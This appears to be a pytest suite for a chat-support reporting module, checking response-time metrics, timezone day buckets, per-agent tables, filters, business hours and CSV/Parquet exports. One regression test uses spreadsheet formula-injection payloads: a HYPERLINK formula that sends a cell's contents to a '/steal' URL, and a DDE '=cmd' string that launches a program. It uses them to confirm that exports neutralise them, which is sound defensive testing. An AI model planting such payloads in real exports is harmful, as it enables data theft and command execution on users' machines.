"""Reports (SPEC D2, D3) on a small hand-built history whose answers are
worked out by hand below, not by the report's own SQL.

Team timezone Asia/Jakarta (UTC+7). Monday 10 March 2025, local times:

chat A (WhatsApp, label VIP)
  s1  User initiate  09:00 customer · 09:00:30 BOT · 09:02 customer · 09:05 Budi
      09:07 activity by Sari (reassigned to Sari) · 09:10 customer · 09:30 Sari
      10:00 resolved by Sari
  s2  (reopened) User initiate  Wed 12 Mar 14:00 customer · 14:10 Budi
chat B (Telegram)
  s3  Business initiate  11:00 template by Budi · 11:20 customer · 11:50 Budi ·
      12:00 resolved by Budi
chat C (Messenger)
  s4  User initiate  23:30 customer (16:30 UTC, Mon)   - no reply
chat D (WhatsApp)
  s5  User initiate  Tue 11 Mar 00:30 customer (17:30 UTC, *Mon*) · 00:31 BOT ·
      09:30 Budi
"""
from __future__ import annotations

import io
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import pandas as pd
import pytest

from maxchat_data import NotAllowed, ValidationError, csv_safe, labels, reports
from maxchat_data.reports import ReportFilter

pytestmark = pytest.mark.both_backends
JKT = ZoneInfo("Asia/Jakarta")
RANGE = ReportFilter(date(2025, 3, 10), date(2025, 3, 12))
MON, TUE, WED = date(2025, 3, 10), date(2025, 3, 11), date(2025, 3, 12)


def at(day: date, hhmm: str, sec: int = 0) -> datetime:
    h, m = map(int, hhmm.split(":"))
    return datetime(day.year, day.month, day.day, h, m, sec, tzinfo=JKT)


def build_history(store, budi: int, sari: int, vip: int) -> dict:
    def write(w):
        ids = iter(range(1, 100))

        def chat(cid, channel, name, label_ids=()):
            w.execute("INSERT INTO contacts (id, name, created_at) VALUES (?, ?, ?)", [cid, name, at(MON, "00:00")])
            w.execute("INSERT INTO chats (id, contact_id, channel, channel_user_id, contact_name, search_name, status,"
                      " label_ids, created_at) VALUES (?, ?, ?, ?, ?, ?, 'Open', ?, ?)",
                      [cid, cid, channel, f"u{cid}", name, name.lower(), list(label_ids), at(MON, "00:00")])
            if label_ids:
                w.execute("INSERT INTO contact_labels VALUES (?, ?)", [cid, label_ids[0]])

        def session(s, cid, by, start, resolved=None, resolver=None):
            w.execute("INSERT INTO sessions VALUES (?, ?, ?, ?, ?, ?)", [s, cid, by, start, resolved, resolver])
            w.execute("UPDATE chats SET session_id = ? WHERE id = ?", [s, cid])

        def msg(s, cid, channel, when, direction, sender=None, kind="text"):
            mid = next(ids) + 1000
            w.execute("INSERT INTO messages (id, chat_id, session_id, channel, direction, sender_agent_id, kind, body,"
                      " status, sent_at, created_at) VALUES (?, ?, ?, ?, ?, ?, ?, 'x', ?, ?, ?)",
                      [mid, cid, s, channel, direction, sender, kind, "received" if direction == "in" else "sent",
                       when, when])

        chat(1, "whatsapp", "Alya", [vip])
        chat(2, "telegram", "Bima")
        chat(3, "messenger", "Cici")
        chat(4, "whatsapp", "Dodi")
        session(11, 1, "User initiate", at(MON, "09:00"), at(MON, "10:00"), sari)
        for when, d, who, kind in [(at(MON, "09:00"), "in", None, "text"), (at(MON, "09:00", 30), "out", None, "text"),
                                   (at(MON, "09:02"), "in", None, "text"), (at(MON, "09:05"), "out", budi, "text"),
                                   (at(MON, "09:07"), "activity", sari, "activity"),
                                   (at(MON, "09:10"), "in", None, "text"), (at(MON, "09:30"), "out", sari, "text")]:
            msg(11, 1, "whatsapp", when, d, who, kind)
        session(12, 1, "User initiate", at(WED, "14:00"))
        msg(12, 1, "whatsapp", at(WED, "14:00"), "in")
        msg(12, 1, "whatsapp", at(WED, "14:10"), "out", budi)
        session(13, 2, "Business initiate", at(MON, "11:00"), at(MON, "12:00"), budi)
        msg(13, 2, "telegram", at(MON, "11:00"), "out", budi, "template")
        msg(13, 2, "telegram", at(MON, "11:20"), "in")
        msg(13, 2, "telegram", at(MON, "11:50"), "out", budi)
        session(14, 3, "User initiate", at(MON, "23:30"))
        msg(14, 3, "messenger", at(MON, "23:30"), "in")
        session(15, 4, "User initiate", at(TUE, "00:30"))
        msg(15, 4, "whatsapp", at(TUE, "00:30"), "in")
        msg(15, 4, "whatsapp", at(TUE, "00:31"), "out", None)
        msg(15, 4, "whatsapp", at(TUE, "09:30"), "out", budi)
        w.forget_caches()

    store.write(write)
    return {}


@pytest.fixture
def history(store, team):
    vip = labels.create_label(store, "VIP", "Purple", team["admin"])
    build_history(store, team["budi"], team["sari"], vip)
    return {**team, "vip": vip}


def report(store, f=RANGE):
    return reports.build(store, f, JKT)


def test_first_response_waiting_and_resolution_times_by_hand(store, history):
    m = report(store).metrics()
    # FRT: s1 09:00 -> Budi 09:05 = 300 (the BOT at 09:00:30 does not count); s2 timed from its own
    # first message, 14:00 -> 14:10 = 600 (not from s1's 09:00 two days before); s5 00:30 -> 09:30 =
    # 32400 (BOT at 00:31 does not count); s3 is business initiated; s4 has no reply.
    # Sorted [300, 600, 32400]: median 600; p90 at position 0.9*2 = 1.8: 600 + 0.8*31800 = 26040.
    assert m.loc["First response time"].to_dict() == {
        "Median (s)": 600.0, "p90 (s)": 26040.0, "Average (s)": (300 + 600 + 32400) / 3, "Count": 3}
    # Waits: s1 09:00 -> 09:05 = 300 (09:02 waits in the same burst), 09:10 -> Sari 09:30 = 1200 (the
    # activity line at 09:07 is no reply); s2 600; s3 11:20 -> 11:50 = 1800 (the template is no reply);
    # s5 32400. Sorted [300, 600, 1200, 1800, 32400]: median 1200, p90 at 3.6: 1800 + 0.6*30600 = 20160.
    assert m.loc["Customer waiting time"].to_dict() == {
        "Median (s)": 1200.0, "p90 (s)": 20160.0, "Average (s)": 36300 / 5, "Count": 5}
    # Resolution: s1 09:00 -> 10:00, s3 11:00 -> 12:00.
    assert m.loc["Resolution time"].to_dict() == {
        "Median (s)": 3600.0, "p90 (s)": 3600.0, "Average (s)": 3600.0, "Count": 2}
    assert "First response time (business hours)" not in m.index  # business hours off


def test_days_follow_the_team_timezone_not_utc(store, history):
    r = report(store)
    # s4 (Mon 23:30) and s5 (Tue 00:30) are both on Monday in UTC; in Jakarta they are two days.
    by_day = r.by_day()
    assert by_day["Sessions"].to_dict() == {MON: 3, TUE: 1, WED: 1}
    assert by_day["User initiate"].to_dict() == {MON: 2, TUE: 1, WED: 1}
    assert by_day["Business initiate"].to_dict() == {MON: 1, TUE: 0, WED: 0}
    assert by_day["Sessions with no agent reply"].to_dict() == {MON: 1, TUE: 0, WED: 0}
    # A range of Tuesday alone holds s5 only.
    assert list(report(store, ReportFilter(TUE, TUE)).facts["session_id"]) == [15]
    heat = r.heatmap().set_index(["Weekday", "Hour"])["Sessions"]
    assert heat.sum() == 4  # user-initiated only
    assert heat[("Monday", 9)] == 1 and heat[("Monday", 23)] == 1 and heat[("Tuesday", 0)] == 1
    assert heat[("Wednesday", 14)] == 1


def test_volumes_count_customers_and_human_agents_only(store, history):
    t = report(store).totals()
    # Customer: s1 3, s2 1, s3 1, s4 1, s5 1. Agent: s1 Budi + Sari, s2, s3 (not the template), s5
    # (not the BOT): 5.
    assert t == {"Sessions": 5, "User initiate": 4, "Business initiate": 1, "Customer messages": 7,
                 "Agent messages": 5, "Resolved sessions": 2, "Sessions with no agent reply": 1}


def test_per_agent_table_with_a_chat_reassigned_mid_session(store, history):
    table = report(store).by_agent()
    # s1 was answered first by Budi, then reassigned to Sari who answered and resolved:
    # the session is Budi's (first reply), the reply and the resolution are Sari's.
    assert table.loc["Budi Santoso"].to_dict() == {
        "Sessions handled": 4, "Replies sent": 4, "First response median (s)": 600.0,
        "First response p90 (s)": 26040.0, "First responses": 3, "Resolutions": 1}
    sari = table.loc["Sari Wulandari"]
    assert (sari["Sessions handled"], sari["Replies sent"], sari["First responses"], sari["Resolutions"]) == (0, 1, 0, 1)
    # The agent filter keeps the sessions whose first reply the agent sent.
    only_sari = report(store, ReportFilter(MON, WED, agent_ids=(history["sari"],)))
    assert only_sari.totals()["Sessions"] == 0
    assert set(report(store, ReportFilter(MON, WED, agent_ids=(history["budi"],))).facts["session_id"]) == {11, 12, 13, 15}


def test_channel_and_label_filters(store, history):
    assert report(store).by_channel()["Sessions"].to_dict() == {"WhatsApp": 3, "Facebook Messenger": 1, "Telegram": 1}
    wa = report(store, ReportFilter(MON, WED, channels=("whatsapp",)))
    assert sorted(wa.facts["session_id"]) == [11, 12, 15]
    vip = report(store, ReportFilter(MON, WED, label_ids=(history["vip"],)))
    assert sorted(vip.facts["session_id"]) == [11, 12]
    assert report(store).by_label()["Sessions"].to_dict() == {"VIP": 2, "(no label)": 3}


def test_business_hours_count_only_the_schedule(store, history):
    weekdays = {d: [["09:00", "17:00"]] for d in ("mon", "tue", "wed", "thu", "fri")}
    reports.set_business_hours(store, weekdays, history["admin"])
    m = report(store).metrics()
    # FRT in business hours: s1 300, s2 600, s5 Tue 00:30 -> 09:30 counts 09:00-09:30 = 1800.
    assert m.loc["First response time (business hours)", "Median (s)"] == 600.0
    assert m.loc["First response time (business hours)", "Count"] == 3
    assert report(store).facts.set_index("session_id")["first_response_bh_s"].dropna().to_dict() == {
        11: 300.0, 12: 600.0, 15: 1800.0}
    # Waits: 300, 1200, 600, 1800, 1800 -> median 1200; the plain figures are unchanged.
    assert sorted(report(store).waits["waiting_bh_s"]) == [300.0, 600.0, 1200.0, 1800.0, 1800.0]
    assert m.loc["Customer waiting time", "Median (s)"] == 1200.0
    # Off again: the business-hours rows go.
    reports.set_business_hours(store, None, history["admin"])
    assert "First response time (business hours)" not in report(store).metrics().index


def test_business_hours_are_checked_and_for_admins_only(store, team):
    with pytest.raises(NotAllowed, match="Only an admin can set business hours"):
        reports.set_business_hours(store, {"mon": [["09:00", "17:00"]]}, team["sari"])
    for bad in ({"mon": [["17:00", "09:00"]]}, {"mon": [["09:00", "12:00"], ["11:00", "13:00"]]},
                {"funday": [["09:00", "10:00"]]}, {"mon": [["9am", "10:00"]]}):
        with pytest.raises(ValidationError):
            reports.set_business_hours(store, bad, team["admin"])
    assert reports.business_hours(store) is None


# ---- consistency (D2, D3) ---------------------------------------------------------
def test_every_total_is_the_sum_of_its_series(store, history):
    r = report(store)
    totals = r.totals()
    for table in (r.by_day(), r.by_channel()):
        assert {k: int(v) for k, v in table.sum().items()} == totals
    assert r.by_agent()["Sessions handled"].sum() == totals["Sessions"] - totals["Sessions with no agent reply"]
    assert r.by_agent()["Replies sent"].sum() == totals["Agent messages"]
    assert r.by_agent()["Resolutions"].sum() == totals["Resolved sessions"]
    assert r.heatmap()["Sessions"].sum() == totals["User initiate"]
    assert r.metrics_by_day()["First responses"].sum() == r.metrics().loc["First response time", "Count"]
    assert r.metrics_by_day()["Waits"].sum() == r.metrics().loc["Customer waiting time", "Count"]
    sessions = r.sessions()
    assert len(sessions) == totals["Sessions"]
    assert sessions["customer_messages"].sum() == totals["Customer messages"]
    assert sessions["agent_messages"].sum() == totals["Agent messages"]


def words(col: pd.Series) -> list[str]:
    return ["" if pd.isna(v) else str(v) for v in col]


def test_csv_and_parquet_downloads_hold_the_table(store, history):
    r = report(store)
    for name, table in r.tables().items():
        back = pd.read_csv(io.BytesIO(csv_safe.csv_bytes(table)))
        shown = table.reset_index() if table.index.name else table
        assert list(back.columns) == list(shown.columns), name
        assert len(back) == len(shown), name
        for col in shown.columns:  # the same numbers and words
            if pd.api.types.is_numeric_dtype(shown[col]):
                assert back[col].fillna(-1).tolist() == pytest.approx(shown[col].fillna(-1).tolist()), (name, col)
            else:
                assert words(back[col]) == words(shown[col]), (name, col)
        again = pd.read_parquet(io.BytesIO(reports.parquet_bytes(table)))
        pd.testing.assert_frame_equal(again, shown.reset_index(drop=True), check_dtype=False), name


def test_csv_downloads_never_hand_a_spreadsheet_a_formula(store, history):
    """Issue 17: a customer named =HYPERLINK(...) came out of the sessions
    CSV as a live formula. Text cells starting with = + - @ tab or CR get a
    quote in front; numbers, negative ones too, stay numbers."""
    import csv
    evil = '=HYPERLINK("http://127.0.0.1:9/steal?x="&A1,"Invoice")'
    store.write(lambda w: w.execute("UPDATE chats SET contact_name = ? WHERE id = (SELECT min(id) FROM chats)",
                                    [evil]))
    odd = labels.create_label(store, "@SUM(1+1)", "Purple", history["admin"])
    labels.set_label(store, store.one("SELECT min(id) FROM chats")[0], odd, True, history["admin"])
    sessions = report(store).sessions()
    rows = list(csv.reader(io.StringIO(csv_safe.csv_bytes(sessions).decode())))
    cells = [c for row in rows for c in row]
    assert "'" + evil in cells and evil not in cells
    assert not any(c.startswith(csv_safe.FORMULA_START) for c in cells), [
        c for c in cells if c.startswith(csv_safe.FORMULA_START)]
    by_label = report(store).by_label()
    assert "'@SUM(1+1)" in csv_safe.csv_bytes(by_label).decode()  # the named index (a table's first column) too
    # A query's own columns: a negative number stays a number, the same text gets its quote, headers too.
    frame = pd.DataFrame({"=cmd|' /C calc'!A0": [-5, 7], "note": ["-5", "+62 812"], "at": pd.to_datetime(
        ["2024-01-01", "2024-01-02"]), "x": [-1.5, None]})
    assert csv_safe.csv_bytes(frame).decode().splitlines() == [
        "'=cmd|' /C calc'!A0,note,at,x", "-5,'-5,2024-01-01,-1.5", "7,'+62 812,2024-01-02,"]


def test_the_session_export_has_one_row_per_session(store, history):
    s = report(store).sessions().set_index("session_id")
    assert s.index.tolist() == [11, 13, 14, 15, 12]  # by start
    row = s.loc[11]
    assert (row["contact"], row["channel"], row["labels"], row["agent"], row["initiated_by"]) == (
        "Alya", "WhatsApp", "VIP", "Budi Santoso", "User initiate")
    assert (row["first_response_s"], row["resolution_s"], row["customer_messages"], row["agent_messages"]) == (
        300.0, 3600.0, 3, 2)
    assert pd.isna(s.loc[14, "first_response_at"]) and s.loc[14, "agent"] == ""


def test_a_bad_range_is_refused(store):
    with pytest.raises(ValidationError, match="ends before it starts"):
        reports.build(store, ReportFilter(TUE, MON), JKT)
